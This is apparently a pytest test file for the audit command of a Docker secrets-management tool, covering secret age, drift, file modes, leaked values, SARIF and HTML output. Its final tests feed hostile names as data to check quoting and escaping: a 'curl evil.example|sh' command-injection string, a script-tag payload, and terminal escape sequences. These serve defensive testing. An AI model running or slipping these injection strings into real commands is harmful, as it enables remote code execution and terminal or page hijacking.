"""What is said of facts that are made up: every kind of finding, who could read, and SARIF. No engine."""

import json
import os
import shlex
import sys
from dataclasses import replace
from pathlib import Path

import pexpect
import pytest
from shim_host.audit import gather, joining, judge, sarif
from shim_host.audit import page as audit_page
from shim_host.audit.model import AuditedMount, AuditedService, Container, Facts, Finding, Image, Key, Seen, Trace
from shim_host.audit.rules import RULES
from shim_host.audit.traces import Recogniser
from shim_host.fingerprints import Fingerprints
from shim_host.store.vault import Vault

from shim.schema import parse
from shim.secret import Secret
from tests.support.audit_examples import NOW, clean, file, holds_to_schema, large, service, small, version
from tests.support.forms import Custody
from tests.support.host import SCRIPT, Canary, Manage


def ids(facts: Facts, **options: int) -> list[str]:
    return [finding.id for finding in judge.judge(facts, **options).findings]


def one(facts: Facts, rule_id: str) -> Finding:
    found = [finding for finding in judge.judge(facts).findings if finding.id == rule_id]
    assert len(found) == 1, found
    return found[0]


def test_what_is_in_order_has_no_finding() -> None:
    judged = judge.judge(clean())

    assert judged.findings == []
    assert [row.cells for row in judged.rows] == [{"db": ("mounted",), "web": ("mounted",)}, {"web": ("mounted",)}]
    assert not judge.is_reached(judged, "note")


def test_the_matrix_says_the_most_urgent_first() -> None:
    judged = judge.judge(small())
    cells = {row.title: row.cells for row in judged.rows}

    assert cells["DB_PASSWORD"] == {"db": ("mounted",), "web": ("old", "mounted"), "worker": ("plain",)}
    assert cells["API_TOKEN"] == {"web": ("stale", "mounted"), "worker": ("ungranted", "mounted")}
    assert cells["LEGACY_KEY"] == {}


def test_findings_come_in_the_order_of_their_urgency() -> None:
    judged = judge.judge(small())
    levels = [finding.level for finding in judged.findings]

    assert levels == sorted(levels, key=("error", "warning", "note").index)
    assert {finding.id for finding in judged.findings} <= set(RULES)
    assert all(finding.hint for finding in judged.findings)


@pytest.mark.parametrize(
    ("days", "expected"),
    [(10, []), (80, ["secret-due-soon"]), (91, ["secret-too-old"]), (200, ["secret-too-old"])],
)
def test_age_is_held_against_rotate(days: float, expected: list[str]) -> None:
    password = version("K", days=days)
    facts = Facts(NOW, keys=(Key("K", (), 90, False),), versions=(password,), services=(service("s", password),))

    assert ids(facts) == expected
    if expected == ["secret-too-old"]:
        found = one(facts, "secret-too-old")
        assert found.level == ("error" if days > 180 else "warning")
        assert found.command == "manage-secrets rotate K"


def test_a_file_is_as_old_as_its_last_change() -> None:
    facts = Facts(NOW, keys=(Key("K", (), 90, False),), files=(file("K", days=95),))

    assert "95 days old" in one(facts, "secret-too-old").message


def test_more_services_than_are_meant_is_a_finding() -> None:
    password = version("K")
    facts = Facts(NOW, versions=(password,), services=tuple(service(f"s{n}", password) for n in range(6)))

    assert ids(facts) == ["secret-shared-widely"]
    assert ids(facts, max_services=6) == []


def test_as_many_services_as_the_schema_names_are_meant() -> None:
    """Still worth knowing, and no reason to fail; one that it does not name is."""
    password = version("K")
    names = tuple(f"s{n}" for n in range(6))
    facts = Facts(NOW, versions=(password,), services=tuple(service(name, password) for name in names))

    assert one(replace(facts, keys=(Key("K", names, 0, False),)), "secret-shared-widely").level == "note"
    some_are_not = replace(facts, keys=(Key("K", names[:5], 0, False),))
    assert one(some_are_not, "secret-shared-widely").level == "warning"


def test_what_no_service_mounts_is_unused_but_nothing_is_said_without_services() -> None:
    facts = Facts(NOW, versions=(version("K", 2), version("K", 1)), services=(service("s"),))

    assert one(facts, "secret-unused").command == "docker secret rm k.v2 k.v1"
    assert ids(replace(facts, services=())) == []


def test_an_older_version_is_drift_and_the_command_moves_the_service() -> None:
    old, new = version("K", 1), version("K", 3)
    facts = Facts(NOW, versions=(old, new), services=(service("s", old),))

    assert one(facts, "service-drift").command == "manage-secrets sync K"  # which keeps uid, gid and mode of the mount


def test_a_secret_of_somebody_else_is_no_version_of_a_key_by_its_name() -> None:
    """It is neither the newest, nor removed along with ours; where there is none of ours, it belongs to the key."""
    own, foreign = version("DB_PASSWORD", 2), version("DB_PASSWORD", 9, is_ours=False)._replace(name="db_password.v9")
    facts = replace(clean(), versions=(own, foreign), services=(service("db", own),), keys=clean().keys[:1])

    judged = judge.judge(facts)

    assert [(row.title, row.key, row.newest) for row in judged.rows] == [
        ("DB_PASSWORD", "DB_PASSWORD", own),
        ("db_password.v9", "", foreign),
    ]
    assert "service-drift" not in ids(facts)
    assert one(facts, "secret-unused").command == "docker secret rm db_password.v9"
    alone = judge.judge(replace(facts, versions=(foreign,), services=(service("db", foreign),)))
    assert [(row.title, row.newest) for row in alone.rows] == [("DB_PASSWORD", foreign)]


def test_a_task_and_a_container_of_compose_keep_to_the_service_of_their_kind() -> None:
    """Both services are called `api`, and only one of them runs with an old value."""
    new = version("K", 2)
    services = joining.with_keys([replace(service("api"), kind="compose", stack="shop"), service("api", new)], ["K"])
    task = Container("api.1", "api", {"K": "print-1"}, "salt", kind="swarm")
    own = Container("shop-api-1", "api", {"K": "print-1"}, "salt", project="shop", kind="compose")
    running = tuple(joining.concerned([task, own], services, "shop"))

    assert [container.service for container in running] == ["api (swarm)", "api"]
    facts = Facts(NOW, versions=(new,), services=tuple(services), containers=running)
    (finding,) = [item for item in judge.judge(facts).findings if item.id == "container-stale"]
    assert finding.message.startswith("the container api.1 ")


def test_a_service_that_keeps_the_version_before_as_well_is_judged_by_target() -> None:
    """The trailing half of a pair is not drift, and the file that is called as the key must hold what is mounted there.

    A fingerprint is made of the name, too, so that what another name has can be compared with nothing.
    """
    prints = Fingerprints(deployment_key=b"k" * 32)
    values = {number: Secret(f"a value {number}".encode()) for number in (1, 2)}
    old, new = (version("K", number)._replace(fingerprint=prints.of("K", value)) for number, value in values.items())
    pair = service("s", old, new)
    trailing, current = pair.mounts
    pair = replace(pair, mounts=(trailing._replace(target="k_previous"), current._replace(target="k")))
    alias = replace(service("s", new), mounts=(current._replace(target="pg_pass"),))

    def said(of: AuditedService, **numbers: int) -> list[str]:
        found = {name.upper(): prints.of(name.upper(), values[number]) for name, number in numbers.items()}
        running = Container("s.1", "s", found, "salt")
        return ids(Facts(NOW, versions=(old, new), services=(of,), containers=(running,)))

    assert said(pair, k=2, k_previous=1) == []
    assert said(pair, k=1, k_previous=1) == ["container-stale"]
    assert said(alias, pg_pass=2) == []


def test_what_came_of_a_template_is_not_compared_with_its_text() -> None:
    template = version("K")._replace(is_template=True)
    running = Container("s.1", "s", {"K": "print-9"}, "salt")

    assert ids(Facts(NOW, versions=(template,), services=(service("s", template),), containers=(running,))) == []


def test_a_file_belongs_to_the_stack_that_is_looked_at() -> None:
    facts = Facts(NOW, versions=(version("K", stack="a"), version("K", stack="b")), files=(file("K", mode=0o644),))
    with_file = [[row.stack for row in judge.judge(replace(facts, stack=stack)).rows if row.file] for stack in "ab"]

    assert with_file == [["a"], ["b"]]
    assert ids(facts) == ["file-readable-by-others"]  # once, whose ever it is
    late = replace(facts, keys=(Key("K", (), 1, False),), versions=(version("K", days=2, stack="a"),))
    assert one(late, "secret-too-old").command == "manage-secrets rotate K --stack a"


def test_the_schema_says_who_may_have_a_secret() -> None:
    password = version("K")
    key = Key("K", ("a", "b", "absent"), None, False, 7)
    facts = Facts(
        NOW, ".env.schema", keys=(key,), versions=(password,), services=(service("a", password), service("b"))
    )
    assert ids(facts) == ["secret-not-mounted"]

    facts = replace(facts, services=(*facts.services, service("c", password)))
    found = one(facts, "secret-not-granted")
    assert (found.level, found.key, found.service, found.place) == ("error", "K", "c", ".env.schema:7")


def test_an_audit_of_a_stack_shows_all_that_its_services_mount() -> None:
    """Also what belongs to no stack, such as a secret that somebody made by hand; not what nobody here mounts."""
    own, by_hand = version("A", stack="shop"), version("B", is_ours=False)
    of_shop = replace(service("web", own, by_hand), stack="shop")
    other = service("other", version("C"))
    seen = Seen("here", versions=(own, by_hand, version("C")), services=(of_shop, other))

    found = gather._of_stack(seen, "shop")

    assert found.versions == (own, by_hand)
    assert found.services == (of_shop,)


def test_a_stack_keeps_its_secrets_apart() -> None:
    mine, other = version("K", stack="a"), version("K", 2, stack="b")
    in_a = service("a_web", mine, own_name="web", stack="a")
    facts = Facts(NOW, keys=(Key("K", ("web",), None, False),), versions=(mine, other), services=(in_a,))
    judged = judge.judge(facts)

    assert {row.title: row.cells for row in judged.rows} == {"a/K": {"a_web": ("mounted",)}, "b/K": {}}
    assert [finding.id for finding in judged.findings] == ["secret-unused"]  # of b


@pytest.mark.parametrize("salt_mark", ["salt", "other"])
def test_a_container_with_another_value_is_stale_where_it_can_be_compared(salt_mark: str) -> None:
    password = version("K")
    running = Container("s.1", "s", {"K": "print-9", "UNKNOWN": "print-9"}, salt_mark)
    facts = Facts(NOW, versions=(password,), services=(service("s", password),), containers=(running,))

    assert ids(facts) == (["container-stale"] if salt_mark == "salt" else ["container-other-salt"])
    assert ids(replace(facts, containers=(replace(running, fingerprints={"K": "print-1"}, salt_mark="salt"),))) == []
    assert ids(replace(facts, containers=(replace(running, fingerprints=None),))) == ["container-without-shim"]


def test_a_paused_container_is_not_called_one_without_a_shim() -> None:
    """It has one perhaps: nothing can be run in it, and the way out is not to unlock a Swarm."""
    password = version("K")
    running = tuple(Container(f"s.{number}", "s", None) for number in (1, 2, 3))
    seen = ("the engine: s.1 is paused", "the engine: cannot ask s.2: it is restarting")
    facts = Facts(NOW, versions=(password,), services=(service("s", password),), containers=running, gaps=seen)
    found = {finding.message: finding.command for finding in judge.judge(facts).findings}

    assert found == {
        "not looked at: the engine: s.1 is paused": "docker unpause s.1",
        "not looked at: the engine: cannot ask s.2: it is restarting": "manage-secrets doctor",
        "no shim could be asked in s.3": "",
    }


@pytest.mark.parametrize(
    ("place", "files"), [("compose.yml:3", ""), ("", " -f /srv/app/compose.yml -f /srv/app/prod.yml")]
)
def test_a_service_of_other_files_is_recreated_with_these(place: str, files: str) -> None:
    """Compose knows no service of that name in the files of this folder."""
    own = AuditedService("worker", "compose", "worker", "app", mounts=mounted_file("K"), place=place)
    labels = {
        "c.project.working_dir": "/srv/app",
        "c.project.config_files": "/srv/app/compose.yml,/srv/app/prod.yml",
        "c.project.environment_file": "/srv/app/.env,/srv/app/prod.env",
    }
    start = joining.started_with(labels, "c.project")
    running = Container("app-worker-1", "worker", {"K": "print-2"}, "salt", "app", kind="compose", **start)
    facts = Facts(
        NOW, project="app", files=(file("K"),), files_salt_mark="salt", services=(own,), containers=(running,)
    )

    stale = one(facts, "container-stale")

    assert stale.command == f"docker compose -p app{files} --env-file /srv/app/prod.env up -d --force-recreate worker"


def mounted_file(key: str) -> tuple[AuditedMount, ...]:
    return (AuditedMount("", key.lower(), file=f"secrets/{key.lower()}", key=key),)


@pytest.mark.parametrize(
    ("folder", "mounts", "is_twin"),
    [
        ("a", "", True),
        ("b", "", False),
        ("", "", False),
        ("a", "b/secrets/k", False),  # started from elsewhere, with our file
    ],
)
def test_two_folders_of_one_name_are_two_projects(tmp_path: Path, folder: str, mounts: str, is_twin: bool) -> None:
    """Compose calls both `app`, and would recreate the containers of the other as ours."""
    store = Vault(tmp_path / "b" / "secrets")
    of_file = AuditedService("api", "compose", "api", "app", mounts=mounted_file("K"), place="compose.yml:2")
    theirs = replace(
        of_file,
        place="",
        folder=str(tmp_path / folder) if folder else "",
        mounts=(AuditedMount("", "k", file=str(tmp_path / (mounts or "a/secrets/k"))),),
    )
    running = Container("app-api-1", "api", None, project="app", kind="compose", folder=theirs.folder)

    others = joining.twins([theirs], "app", str(tmp_path / "b"), store)
    services = joining.joined([of_file], [theirs], "app", others, store)

    assert others == ({str(tmp_path / "a")} if is_twin else set())
    assert [item.name for item in services] == ["api"]
    assert len(list(joining.concerned([running], services, "app", others))) == (not is_twin)


def test_modes_that_let_others_read() -> None:
    password = version("K")
    opened = replace(service("s", password), mounts=(service("s", password).mounts[0]._replace(mode=0o444),))
    facts = Facts(NOW, versions=(password,), files=(file("K", mode=0o640),), services=(opened,))

    assert ids(facts) == ["file-readable-by-others", "mount-readable-by-all"]
    assert one(facts, "file-readable-by-others").command == "chmod 600 secrets/k"


def test_who_could_read() -> None:
    judged = judge.judge(small())
    readers = {row.title: [f"{reader.name}: {reader.how}" for reader in row.readers] for row in judged.rows}

    assert readers["API_TOKEN"] == ["web: mounts it, as root", "worker: mounts it, as root"]
    assert "worker: has it in plain text" in readers["DB_PASSWORD"]
    assert "every user of this machine: may read secrets/db_password" in readers["DB_PASSWORD"]
    names = [reader.name for reader in judged.readers_of_all]
    assert names == ["deploy", "root of this machine", "root of node-1", "root of node-2", "root of node-3", "worker"]


def test_what_an_image_shows_is_in_the_cells_of_its_services() -> None:
    password = version("K")
    trace = Trace("image-history", "K", "K", "holds the value of K", True)
    facts = Facts(
        NOW,
        versions=(password,),
        services=(service("s", password, image="i:1"), service("t", image="i:2")),
        images=(Image("i:1", (trace,)),),
    )
    judged = judge.judge(facts)

    assert judged.rows[0].cells == {"s": ("plain", "mounted")}
    assert [finding.message for finding in judged.findings] == ["image i:1: the history's K holds the value of K"]


@pytest.mark.parametrize("facts", [clean(), small(), large()], ids=["clean", "small", "large"])
def test_sarif_is_what_the_standard_says(facts: Facts) -> None:
    from sarif_pydantic import Sarif

    judged = judge.judge(facts)
    document = sarif.document(judged)
    parsed = Sarif.model_validate(document)

    run = document["runs"][0]
    assert parsed.version == "2.1.0"
    assert len(run["results"]) == len(judged.findings)
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    for result in run["results"]:
        assert rules[result["ruleIndex"]] == result["ruleId"]
        assert result["level"] in ("error", "warning", "note")
        assert result["locations"]
        for location in result["locations"]:
            uri = location.get("physicalLocation", {}).get("artifactLocation", {}).get("uri", "x")
            assert uri
            assert " " not in uri
    prints = [result["partialFingerprints"]["finding/v1"] for result in run["results"]]
    tomorrow = sarif.document(judge.judge(replace(facts, now=facts.now.replace(hour=facts.now.hour + 1))))
    assert prints == [result["partialFingerprints"]["finding/v1"] for result in tomorrow["runs"][0]["results"]]


def test_sarif_holds_to_its_published_schema(tmp_path: Path) -> None:
    """The schema of SARIF 2.1.0 that editors and code hosts use (schemastore.org), read by a validator of others."""
    documents = {name: sarif.document(judge.judge(facts)) for name, facts in (("a", clean()), ("b", large()))}
    documents["wrong"] = json.loads(json.dumps(documents["b"]))
    documents["wrong"]["runs"][0]["results"][0]["level"] = "fatal"
    for name, document in documents.items():
        (tmp_path / name).write_text(json.dumps(document))

    assert holds_to_schema(tmp_path / "a", tmp_path / "b") == ""
    assert "'fatal' is not one of" in holds_to_schema(tmp_path / "wrong")


def test_names_that_look_like_html_stay_names() -> None:
    name = "<script>alert('x')</script>@BODY@\x1b[31m"
    facts = replace(clean(), services=(service(name, version("K", days=400)),))
    page = audit_page.page(judge.judge(facts))

    assert page.count("<script>") == 1
    assert "&lt;script&gt;alert(&#x27;x&#x27;)" in page
    assert "\x1b" not in page


def forms(value: str) -> dict[str, str]:
    import base64
    from urllib.parse import quote

    raw = value.encode()
    coded = {f"base64 {n}": base64.b64encode(b"u" * n + b":" + raw + b"!").decode() for n in range(3)}
    return {
        "itself": value,
        "within": f"postgres://app:{value}@db/app",
        "percent": quote(value, safe=""),
        "hexadecimal": raw.hex(),
        "base64": base64.b64encode(raw).decode(),
        "base64url": base64.urlsafe_b64encode(raw).decode(),
        "json": json.dumps({"k": value}),
        **coded,
    }


@pytest.mark.parametrize("form", forms(""))
@pytest.mark.parametrize("ending", ["", "/+ü?>", '"\\ =&'])
def test_a_value_is_recognised_in_every_form(canary: Canary, custody: Custody, form: str, ending: str) -> None:
    value = canary() + ending
    known = Recogniser({"DB_PASSWORD": [Secret(value.encode() + b"\n")]}, None)
    trace = known.variable("environment", "HARMLESS", forms(value)[form])

    assert trace is not None
    assert (trace.key, trace.is_certain) == ("DB_PASSWORD", True)
    custody.said.append(repr(trace))


def test_of_many_values_the_one_that_was_known_first_is_named(canary: Canary) -> None:
    values = [canary() for _ in range(300)]
    inner = values[7][3:-1]  # it begins elsewhere, and is known later
    known = Recogniser({f"KEY_{n}": [Secret(v.encode())] for n, v in enumerate([*values, inner])}, None)

    for number in (0, 7, 299):
        assert known.known(f"x{values[299]}y{values[number]}") == (f"KEY_{number}", f"holds the value of KEY_{number}")
    assert known.known(f"--password={inner}") == ("KEY_300", "holds the value of KEY_300")
    assert known.known(inner) == ("KEY_300", "is the value of KEY_300")
    assert known.known(inner[:-1]) is None
    assert known.known("") is None


def test_a_word_that_equals_a_value_by_chance_is_no_trace() -> None:
    """Where POSTGRES_DB is `dify`, and so is a forgotten API key, the database's name is not a secret."""
    known = Recogniser({"BAIDU_API_KEY": [Secret(b"dify")]}, None)

    assert known.variable("environment", "POSTGRES_DB", "dify") is None
    assert known.variable("environment", "ETL", "unstructured-dify-etl") is None
    assert known.variable("environment", "OTHER_API_KEY", "dify") is not None
    known = Recogniser({"DB_PASSWORD": [Secret(b"123456")]}, None)
    assert known.variable("environment", "PGPASSWORD", "123456") is not None
    assert known.variable("environment", "MAX_TOKENS", "123456") is None
    known = Recogniser({"BAIDU_API_KEY": [Secret(b"dify")], "SECRET_KEY": [Secret(b"replace-me")]}, None)
    assert known.variable("environment", "BASE_URL", "replace-me") is None
    assert [trace.name for trace in known.words("command line", ["serve", "dify", "--token", "dify"])] == ["--token"]
    assert not list(known.words("entrypoint", ["/opt/shim/shim", "--file-key", "db__password", "--", "serve"]))


def test_what_is_no_value_is_not_taken_for_one(canary: Canary) -> None:
    schema = parse(b"# @sensitive\nDB_PASSWORD=\n# @public\nPUBLIC_TOKEN=\n")
    known = Recogniser({"DB_PASSWORD": [Secret(canary().encode())], "SHORT": [Secret(b"ab")]}, schema)
    harmless = {
        "DB_PASSWORD_FILE": "/run/secrets/db_password",
        "DB_PASSWORD": "",
        "OTHER_PASSWORD": "/run/secrets/other",
        "PUBLIC_TOKEN": "pk-123456789",
        "ALLOW_EMPTY_PASSWORD": "yes",
        "GPG_KEY": "7169605F62C751356D054A26A821E680E5FA6305",
        "PATH": "/usr/bin:/bin",
        "A": "ab",
        "TOKEN_TTL": "3600",
    }

    assert [known.variable("environment", *pair) for pair in harmless.items()] == [None] * len(harmless)
    assert list(known.words("arguments", ["redis-server", "--requirepass", "/run/secrets/x", "--port", "6379"])) == []
    assert list(known.text("image-history", "RUN /bin/sh -c apt-get install -y curl", "step 1")) == []


def test_options_assignments_and_shapes_are_recognised(canary: Canary, custody: Custody) -> None:
    value = canary()
    known = Recogniser({}, parse(b"# @sensitive\nODD_NAME=\n"))
    traces = [
        *known.words("arguments", ["app", "--api-token", value]),
        *known.words("arguments", [f"--db-password={value}"]),
        *known.words("arguments", ["sh", "-c", f"ADMIN_PASSWORD={value} exec app"]),
        *known.text("image-history", f"RUN |1 NPM_TOKEN={value} /bin/sh -c npm ci", "step 3"),
        *known.text("image-history", f"RUN git clone https://bot:{value}@example.org/x", "step 4"),
        known.variable("environment", "ODD_NAME", value),
    ]

    names = [trace.name for trace in traces if trace is not None]
    assert names == ["--api-token", "--db-password", "ADMIN_PASSWORD", "NPM_TOKEN", "step 4", "ODD_NAME"]
    assert not any(trace.is_certain for trace in traces if trace is not None)
    custody.said.append(repr(traces))


COMPOSE = """services:
  web:
    image: web
    environment:
      DATABASE_URL: postgres://app:${DB_PASSWORD}@db/app
      TOKEN_AS_IT_IS: %s
    command: [web, --api-token, %s]
    labels: {note: %s}
    healthcheck: {test: ["CMD", "check", "%s"]}
    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]
  db:
    image: db
    secrets: [db_password]
    env_file: [db.env]
secrets:
  db_password: {file: ./secrets/db_password}
"""


@pytest.fixture
def files(manage: Manage, canary: Canary) -> Manage:
    """Return the host tool in a folder where much is wrong."""
    password, token = canary(), canary()
    manage.write(".env", f"DB_PASSWORD={password}\n")
    manage.write("secrets/db_password", password)
    manage.write("secrets/api_token", token)
    (manage.folder / "secrets" / "db_password").chmod(0o600)
    (manage.folder / "secrets" / "api_token").chmod(0o644)
    manage.write("db.env", f"PGPASSWORD={password}\n")
    manage.write("docker-compose.yml", COMPOSE % (token, token, token, token))
    manage.write(
        ".env.schema",
        "# @sensitive @services=db @rotate=90d\nDB_PASSWORD=\n# @sensitive @services=nobody\nAPI_TOKEN=\n",
    )
    return manage


def test_files_alone_are_audited_with_lines(files: Manage) -> None:
    end = files("audit", "--no-engine", "--json")
    document = json.loads(end.stdout)

    assert end.code == 1
    found = {(item["id"], item["service"]): (item["key"], item["place"]) for item in document["findings"]}
    assert found["secret-in-arguments", "web"] == ("API_TOKEN", "docker-compose.yml:3")
    assert found["secret-in-label", "web"] == ("API_TOKEN", "docker-compose.yml:3")
    assert found["secret-in-health-check", "web"] == ("API_TOKEN", "docker-compose.yml:3")
    assert found["secret-in-environment", "db"] == ("DB_PASSWORD", "db.env")
    places = {(item["key"], item["place"]) for item in document["findings"] if item["id"] == "secret-in-environment"}
    assert {("DB_PASSWORD", "docker-compose.yml:5"), ("API_TOKEN", "docker-compose.yml:6")} <= places
    assert ("service-reaches-everything", "web") in found
    assert ("file-readable-by-others", "") in found
    assert document["not_looked_at"] == ["the engine: it was not asked"]
    assert {row["title"]: row["services"] for row in document["secrets"]} == {
        "DB_PASSWORD": {"web": ["plain"], "db": ["plain", "mounted"]} | {},
        "API_TOKEN": {"web": ["plain"]},
    }


def test_every_output_holds_no_value_and_files_are_private(files: Manage) -> None:
    end = files("audit", "--no-engine", "--html", "a.html", "--sarif", "a.sarif")

    assert end.code == 1
    assert "secret-in-environment" in end.stdout
    for name in ("a.html", "a.sarif"):
        path = files.folder / name
        assert path.stat().st_mode & 0o777 == 0o600
        files.custody.said.append(path.read_text())
    assert json.loads((files.folder / "a.sarif").read_text())["version"] == "2.1.0"
    assert not list(files.folder.glob(".*.new"))


def test_the_exit_code_follows_fail_on(manage: Manage, canary: Canary) -> None:
    manage.write("secrets/k", canary())
    (manage.folder / "secrets/k").chmod(0o600)
    manage.write("docker-compose.yml", "services: {a: {image: a}}\n")

    assert manage("audit", "--no-engine").code == 1  # unused: a warning
    assert manage("audit", "--no-engine", "--fail-on", "error").code == 0
    assert manage("audit", "--no-engine", "--fail-on", "never").code == 2


# `docker compose up` of 2.26 and 2.40 ends with "unsupported external secret", and with "cannot create secret … in
# read-only service" or "container rootfs is marked read-only".
@pytest.mark.parametrize(
    ("of_service", "of_secret", "expected"),
    [
        ("", "external: true", "web mounts the external secret k, which only a Swarm could have"),
        ("read_only: true", "environment: OTHER", "web is read_only, so Compose cannot copy the secret k into it"),
        ("", "environment: OTHER", ""),
        ("read_only: true", "file: ./secrets/k", ""),
    ],
)
def test_a_secret_that_compose_cannot_deliver_is_a_finding(
    manage: Manage, canary: Canary, of_service: str, of_secret: str, expected: str
) -> None:
    manage.write("secrets/k", canary())
    (manage.folder / "secrets/k").chmod(0o600)
    manage.write(
        "compose.yaml",
        f"services:\n  web:\n    image: a\n    secrets: [k]\n    {of_service}\nsecrets:\n  k: {{{of_secret}}}\n",
    )

    found = json.loads(manage("audit", "--no-engine", "--json").stdout)["findings"]

    assert [item["message"] for item in found if item["id"] == "secret-not-deliverable"] == [expected] * bool(expected)


def test_an_external_secret_that_the_swarm_has_belongs_to_a_stack_file() -> None:
    mount = AuditedMount("", "db", name="DB_PASSWORD", key="DB_PASSWORD", is_external=True)
    web = AuditedService("web", "compose", "web", mounts=(mount,))

    assert "secret-not-deliverable" in ids(Facts(NOW, services=(web,)))
    assert "secret-not-deliverable" not in ids(Facts(NOW, services=(web,), versions=(version("DB_PASSWORD"),)))


def test_an_engine_that_does_not_answer_is_no_clean_audit(manage: Manage) -> None:
    end = manage("audit", env={"DOCKER_HOST": "unix:///nowhere/docker.sock"})

    assert end.code == 111
    assert "not looked at: the engine: no engine answers" in end.stderr


@pytest.mark.parametrize(
    ("name", "text", "gap"),
    [
        ("docker-compose.yml", "services: [", "the Compose file: it has mistakes"),
        (".env", "A='", "the .env file: it cannot be read"),
    ],
)
def test_a_file_that_had_to_be_left_out_is_no_clean_audit(manage: Manage, name: str, text: str, gap: str) -> None:
    assert manage("audit", "--no-engine", "--fail-on", "error").code == 0
    manage.write(name, text)

    end = manage("audit", "--no-engine", "--fail-on", "error", "--json")

    assert end.code == 1
    assert gap in json.loads(end.stdout)["not_looked_at"]
    assert f"not looked at: {gap}" in end.stderr


def test_a_page_that_cannot_be_written_is_said(manage: Manage) -> None:
    end = manage("audit", "--no-engine", "--html", "absent/a.html")

    assert end.code == 111
    assert "cannot write absent/a.html" in end.stderr


def test_help_names_every_level(manage: Manage) -> None:
    assert Path(audit_page.__file__).with_name("page.html").exists()
    assert "error|warning|note" in manage("audit", "--help").stdout


EVIL = "a; curl evil.example|sh #$(touch x)`y`' \""


@pytest.mark.parametrize("name", [EVIL, "--help", "two\nlines", "\x1b]0;title\x07", "a\u202eb"])
def test_no_name_of_a_stranger_writes_a_command_line(name: str) -> None:
    """Labels, services, containers and paths are one word each in what a person is offered to run, or are left out."""
    versions = [version("K", number, 900)._replace(key=name, name=f"{name}.v{number}") for number in (1, 2)]
    shared = replace(service("s", versions[0]), name=name, own_name=name, stack=name)
    compose = replace(shared, name=f"c{name}", kind="compose")
    alone = replace(shared, name=f"l{name}", kind="container")
    open_file = file("F", mode=0o644)._replace(path=f"{name}/f")
    facts = Facts(
        NOW,
        versions=(*versions, version("U", 1, 900)._replace(name=name)),
        files=(open_file,),
        services=(shared, compose, alone),
        containers=tuple(Container(name, one.name, {name: "print-9"}, "salt") for one in (shared, compose, alone)),
    )
    commands = [finding.command for finding in judge.judge(facts).findings if finding.command]

    assert len(commands) >= 4
    for command in commands:
        assert command.isprintable()
        words = shlex.split(command)
        assert shlex.join(words) == command, "every word is quoted as it has to be, and no more"
        assert "--help" not in words
    assert any("curl" in command for command in commands) == (name == EVIL)


def test_a_name_of_a_stranger_is_no_link_in_sarif() -> None:
    """Code hosts make one of `[text](address)` in a message; and a name must not turn a line round."""
    name = "[look](https://evil.example)\u202e\x1b\n"
    facts = Facts(NOW, services=(replace(service(name), reach=("is privileged",)),), gaps=(f"the engine: {name}",))

    document = sarif.document(judge.judge(facts))["runs"][0]

    texts = [result["message"]["text"] for result in document["results"]]
    texts += [notice["message"]["text"] for notice in document["invocations"][0]["toolExecutionNotifications"]]
    assert len(texts) == 3
    for text in texts:
        assert r"[look] (https://evil.example)\u202e\x1b\n" in text


def test_a_file_name_tells_a_terminal_nothing(manage: Manage, canary: Canary) -> None:
    """git carries such names, and a Compose file may include them: a checkout must not write to the terminal."""
    name = "x\x1b]0;PWNED\x07\x1b[31m\u202e.yml"
    value = canary()
    manage.write("secrets/db_password", value).chmod(0o600)
    manage.write(name, f"services:\n  web:\n    image: b\n    environment:\n      DB_PASSWORD: {value}\n")
    manage.write("docker-compose.yml", f"include:\n  - {json.dumps(name)}\n")
    child = pexpect.spawn(
        sys.executable,
        [str(SCRIPT), "audit", "--no-engine"],
        cwd=str(manage.folder),
        env={"PATH": os.environ["PATH"], "HOME": str(manage.folder), "TERM": "xterm"},
        encoding="utf-8",
        timeout=60,
    )
    child.expect(pexpect.EOF)
    said = str(child.before)
    manage.custody.said.append(said)

    assert "PWNED" in said
    assert not [character for character in ("\x1b]0;", "\x07", "\u202e") if character in said]
